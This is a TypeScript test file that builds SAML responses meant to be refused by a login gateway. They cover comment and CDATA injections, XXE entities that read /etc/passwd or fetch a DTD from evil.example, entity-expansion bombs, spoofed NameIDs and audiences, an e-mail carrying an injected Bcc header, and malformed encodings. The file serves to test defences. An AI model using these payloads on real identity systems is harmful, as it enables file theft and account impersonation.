import type { RefusalCode } from '../../src/kernel/refusal.ts';
import type { AttackCase, HarmlessCase, Mark } from './attack-case.ts';
import { attributesOf, posted, swap } from './attack-case.ts';
import { encode, type ResponseOptions } from './saml-idp.ts';
import type { ConnectionName } from './attack-gateway.ts';

/** Places of a text that decides something. */
const PLACES = [
  { where: 'NameID', end: '</saml2:NameID>' },
  { where: 'a role', end: /agent(?=<\/saml2:AttributeValue>)/ },
  { where: 'the e-mail', end: /corp\.example(?=<\/saml2:AttributeValue>)/ },
  { where: 'Issuer', end: '</saml2:Issuer>' },
  { where: 'Audience', end: '</saml2:Audience>' },
] as const;

/** Two readers take these for two texts; each leaves the canonical form as it was, or nearly. */
const TRICKS = [
  { what: 'a comment', text: '<!-- -->' },
  { what: 'CDATA', text: '<![CDATA[]]>' },
  { what: 'a processing instruction', text: '<?x y?>' },
] as const;

const before = (xml: string, end: string | RegExp, text: string): string => {
  const found = typeof end === 'string' ? end : (end.exec(xml)?.[0] ?? '');
  return swap(xml, found, text + found);
};

const INSERTED: readonly AttackCase[] = TRICKS.flatMap(({ what, text }) =>
  PLACES.flatMap(({ where, end }) =>
    (['response', 'assertion'] as const).map((sign) => ({
      class: 'text tricks' as const,
      name: `${what} in ${where} (${sign} signed)`,
      connection: 'either' as const,
      build: (mark: Mark) => posted(before(mark.respond({ sign }), end, text)),
      expected: 'SAML_MALFORMED' as const,
    })),
  ),
);

const altered = (
  name: string,
  alter: (xml: string, mark: Mark) => string,
  expected: RefusalCode,
  options: ResponseOptions = {},
): AttackCase => ({
  class: 'text tricks',
  name,
  connection: 'either',
  build: (mark) => posted(alter(mark.respond(options), mark)),
  expected,
});

const doctype = (inner: string): ((xml: string) => string) => {
  return (xml) => swap(xml, '?><saml2p', `?><!DOCTYPE r ${inner}><saml2p`);
};

const ENTITIES: readonly AttackCase[] = [
  altered(
    'entities that multiply',
    doctype('[<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]'),
    'SAML_MALFORMED',
  ),
  altered('an entity that reads a file', doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]'), 'SAML_MALFORMED'),
  altered(
    'an entity that calls out',
    doctype('[<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]'),
    'SAML_MALFORMED',
  ),
  altered('an external subset', doctype('SYSTEM "http://evil.example/x.dtd"'), 'SAML_MALFORMED'),
  altered('a default attribute by DTD', doctype('[<!ATTLIST Assertion ID CDATA "_x">]'), 'SAML_MALFORMED'),
  altered(
    'a document type in the middle',
    (xml) => swap(xml, '<saml2p:Status>', '<!DOCTYPE x><saml2p:Status>'),
    'SAML_MALFORMED',
  ),
  altered(
    'a document type in other letters',
    (xml) => swap(xml, '?><saml2p', '?><!doctype x><saml2p'),
    'SAML_MALFORMED',
  ),
  altered(
    'an entity that nobody declared',
    (xml) => swap(xml, '</saml2:NameID>', '&x;</saml2:NameID>'),
    'SAML_MALFORMED',
  ),
  altered('an HTML entity', (xml) => swap(xml, '</saml2:NameID>', '&nbsp;</saml2:NameID>'), 'SAML_MALFORMED'),
  altered('a style sheet', (xml) => swap(xml, '?><saml2p', '?><?xml-stylesheet href="x"?><saml2p'), 'SAML_MALFORMED'),
  altered(
    'a character reference to NUL',
    (xml) => swap(xml, '</saml2:NameID>', '&#0;</saml2:NameID>'),
    'SAML_MALFORMED',
  ),
  altered('a blank in the NameID', (xml) => swap(xml, '</saml2:NameID>', ' </saml2:NameID>'), 'SAML_SIGNATURE_INVALID'),
  altered(
    'a line end between elements of the assertion',
    (xml) => swap(xml, '<saml2:Subject>', '\n<saml2:Subject>'),
    'SAML_SIGNATURE_INVALID',
  ),
];

/** What the IdP itself was talked into signing: a name that reads like another. */
const signed = (
  name: string,
  options: (mark: Mark) => ResponseOptions,
  expected: RefusalCode,
  connection: ConnectionName = 'either',
): AttackCase => ({
  class: 'text tricks',
  name,
  connection,
  build: (mark) => posted(mark.respond(options(mark))),
  expected,
});

const NAME_IDS: readonly (readonly [name: string, tail: string])[] = [
  ['a blank behind', ' '],
  ['a tab behind', '\t'],
  ['a line end behind', '\n'],
  ['a zero-width space', '\u200B'],
  ['a zero-width joiner', '\u200D'],
  ['a word joiner', '\u2060'],
  ['a soft hyphen', '\u00AD'],
  ['a direction mark', '\u202E'],
  ['a no-break space', '\u00A0'],
  ['a byte order mark', '\uFEFF'],
];

const SIGNED_TEXTS: readonly AttackCase[] = [
  ...NAME_IDS.map(([name, tail]) =>
    signed(`NameID with ${name}`, ({ email }) => ({ nameId: email + tail }), 'SAML_SUBJECT_MISSING'),
  ),
  ...NAME_IDS.filter(([, tail]) => !/[ \t\n]/.test(tail)).map(([name, tail]) =>
    signed(
      `an e-mail with ${name}`,
      ({ email }) => ({ attributes: attributesOf(email + tail, ['agent']) }),
      'ATTRIBUTE_INVALID',
    ),
  ),
  signed('an empty NameID', () => ({ nameId: '' }), 'SAML_SUBJECT_MISSING'),
  signed('no NameID', () => ({ nameId: null }), 'SAML_SUBJECT_MISSING'),
  signed('a NameID of 300 characters', () => ({ nameId: 'a'.repeat(300) }), 'SAML_SUBJECT_MISSING'),
  signed('a NameID of 100 characters', () => ({ nameId: 'a'.repeat(100) }), 'USERNAME_INVALID'),
  signed('a NameID that reads like a User SID', () => ({ nameId: `US${'0'.repeat(32)}` }), 'USERNAME_INVALID'),
  signed(
    'an Issuer with a blank behind',
    () => ({ issuer: 'http://www.okta.com/exk1examplekeyAAA1d7 ' }),
    'SAML_ISSUER_MISMATCH',
  ),
  signed(
    'an Issuer with a slash behind',
    () => ({ issuer: 'http://www.okta.com/exk1examplekeyAAA1d7/' }),
    'SAML_ISSUER_MISMATCH',
  ),
  signed(
    'an Issuer in capitals',
    () => ({ issuer: 'HTTP://WWW.OKTA.COM/exk1examplekeyAAA1d7' }),
    'SAML_ISSUER_MISMATCH',
  ),
  signed('an Audience with a blank behind', () => ({ audiences: ['urn:gw:flex '] }), 'SAML_AUDIENCE_MISMATCH'),
  signed('an Audience in capitals', () => ({ audiences: ['URN:GW:FLEX'] }), 'SAML_AUDIENCE_MISMATCH'),
  signed(
    'an Audience with ours for a prefix',
    () => ({ audiences: ['urn:gw:flex.evil.example'] }),
    'SAML_AUDIENCE_MISMATCH',
  ),
  signed(
    'two e-mail addresses',
    ({ email }) => ({
      attributes: [
        ['email', [email, 'boss@corp.example']],
        ['full_name', ['A B']],
        ['roles', ['agent']],
      ],
    }),
    'ATTRIBUTE_INVALID',
  ),
  signed(
    'two e-mail attributes',
    ({ email }) => ({
      attributes: [
        ['email', [email]],
        ['full_name', ['A B']],
        ['roles', ['agent']],
        ['email', ['boss@corp.example']],
      ],
    }),
    'ATTRIBUTE_INVALID',
  ),
  signed(
    'a name with a direction mark',
    ({ email }) => ({
      attributes: [
        ['email', [email]],
        ['full_name', ['Ana \u202Eevil']],
        ['roles', ['agent']],
      ],
    }),
    'ATTRIBUTE_INVALID',
  ),
  signed(
    'a blank name',
    ({ email }) => ({
      attributes: [
        ['email', [email]],
        ['full_name', ['\u3164']],
        ['roles', ['agent']],
      ],
    }),
    'ATTRIBUTE_INVALID',
  ),
  signed(
    'an e-mail that is a header',
    ({ email }) => ({
      attributes: [
        ['email', [`${email}\r\nBcc: x@evil.example`]],
        ['full_name', ['A B']],
        ['roles', ['agent']],
      ],
    }),
    'ATTRIBUTE_INVALID',
  ),
];

/** The same text in another spelling of XML: read as what was signed. */
export const HARMLESS_TEXTS: readonly HarmlessCase[] = [
  {
    class: 'text tricks',
    name: 'a character reference in place of a letter of the NameID',
    connection: 'either',
    build: (mark) => posted(swap(mark.respond(), '@corp.example</saml2:NameID>', '&#64;corp.example</saml2:NameID>')),
  },
  {
    class: 'text tricks',
    name: 'character references in place of a role',
    connection: 'either',
    build: (mark) => posted(swap(mark.respond(), '>agent<', '>&#x61;gent<')),
  },
];

const encoded = (name: string, response: (xml: string) => string | Uint8Array, expected: RefusalCode): AttackCase => ({
  class: 'encoding',
  name,
  connection: 'either',
  build: (mark) => {
    const made = response(mark.respond());
    return { response: typeof made === 'string' ? made : Buffer.from(made).toString('base64') };
  },
  expected,
});

const declared = (declaration: string): ((xml: string) => string) => {
  return (xml) => encode(swap(xml, '<?xml version="1.0" encoding="UTF-8"?>', declaration));
};

export const ENCODING_ATTACKS: readonly AttackCase[] = [
  encoded('no base64 at all', () => '<xml/>', 'SAML_NOT_BASE64'),
  encoded('the XML as it is', (xml) => xml, 'SAML_NOT_BASE64'),
  encoded('base64url', (xml) => Buffer.from(`${xml}\n<!-- ÿÿÿ>>>??? -->`).toString('base64url'), 'SAML_NOT_BASE64'),
  encoded('blanks inside the base64', (xml) => encode(xml).replace(/.{40}/, '$& '), 'SAML_NOT_BASE64'),
  encoded('other letters inside the base64', (xml) => encode(xml).replace(/.{40}/, '$&*'), 'SAML_NOT_BASE64'),
  encoded(
    'text behind the padding',
    (xml) => `${encode(`${xml} `.slice(0, xml.length - (xml.length % 3) + 1))}AAAA`,
    'SAML_NOT_BASE64',
  ),
  encoded('base64 twice', (xml) => encode(encode(xml)), 'SAML_MALFORMED'),
  encoded('a percent-encoded field', (xml) => encodeURIComponent(encode(xml) + '=='), 'SAML_NOT_BASE64'),
  encoded('base64 of nothing', () => '====', 'SAML_NOT_BASE64'),
  encoded('UTF-16', (xml) => Buffer.from(xml, 'utf16le'), 'SAML_MALFORMED'),
  encoded('UTF-16 with a byte order mark', (xml) => Buffer.from(`\uFEFF${xml}`, 'utf16le'), 'SAML_NOT_BASE64'),
  encoded('UTF-8 with a byte order mark', (xml) => encode(`\uFEFF${xml}`), 'SAML_MALFORMED'),
  encoded('Latin-1', (xml) => Buffer.from(swap(xml, 'Ana Ruiz', 'Ana Ru\u00EDz'), 'latin1'), 'SAML_NOT_BASE64'),
  encoded('overlong UTF-8', (xml) => Buffer.concat([Buffer.from(xml), Buffer.from([0xc0, 0xbc])]), 'SAML_NOT_BASE64'),
  encoded(
    'a lone surrogate',
    (xml) => Buffer.concat([Buffer.from(xml), Buffer.from([0xed, 0xa0, 0x80])]),
    'SAML_NOT_BASE64',
  ),
  encoded('a null byte', (xml) => encode(swap(xml, '</saml2:NameID>', '\u0000</saml2:NameID>')), 'SAML_MALFORMED'),
  encoded(
    'a control character',
    (xml) => encode(swap(xml, '</saml2:NameID>', '\u0008</saml2:NameID>')),
    'SAML_MALFORMED',
  ),
  encoded('a declaration that says UTF-7', declared('<?xml version="1.0" encoding="UTF-7"?>'), 'SAML_MALFORMED'),
  encoded('a declaration that says UTF-16', declared('<?xml version="1.0" encoding="UTF-16"?>'), 'SAML_MALFORMED'),
  encoded('a declaration that says Latin-1', declared('<?xml version="1.0" encoding="ISO-8859-1"?>'), 'SAML_MALFORMED'),
  encoded('XML 1.1', declared('<?xml version="1.1" encoding="UTF-8"?>'), 'SAML_MALFORMED'),
  encoded('text before the root', (xml) => encode(`x${xml}`), 'SAML_MALFORMED'),
  encoded('text behind the root', (xml) => encode(`${xml}x`), 'SAML_MALFORMED'),
  encoded('two roots', (xml) => encode(`${xml}<x/>`), 'SAML_MALFORMED'),
  encoded('an end that is missing', (xml) => encode(xml.slice(0, -3)), 'SAML_MALFORMED'),
  encoded('elements that overlap', (xml) => encode(swap(xml, '</saml2:NameID>', '</saml2:Subject>')), 'SAML_MALFORMED'),
  encoded(
    'an attribute twice',
    (xml) => encode(swap(xml, ' Version="2.0"', ' Version="2.0" Version="2.0"')),
    'SAML_MALFORMED',
  ),
  encoded(
    'a prefix that nobody declared',
    (xml) => encode(swap(xml, '<saml2p:Status>', '<nobody:x/><saml2p:Status>')),
    'SAML_MALFORMED',
  ),
  encoded('an attribute without quotes', (xml) => encode(swap(xml, 'Version="2.0"', 'Version=2.0')), 'SAML_MALFORMED'),
  encoded('a script page', () => encode('<html><script>alert(1)</script></html>'), 'SAML_SHAPE'),
  encoded('JSON', () => encode('{"SAMLResponse":true}'), 'SAML_MALFORMED'),
];

export const TEXT_ATTACKS: readonly AttackCase[] = [...INSERTED, ...ENTITIES, ...SIGNED_TEXTS];
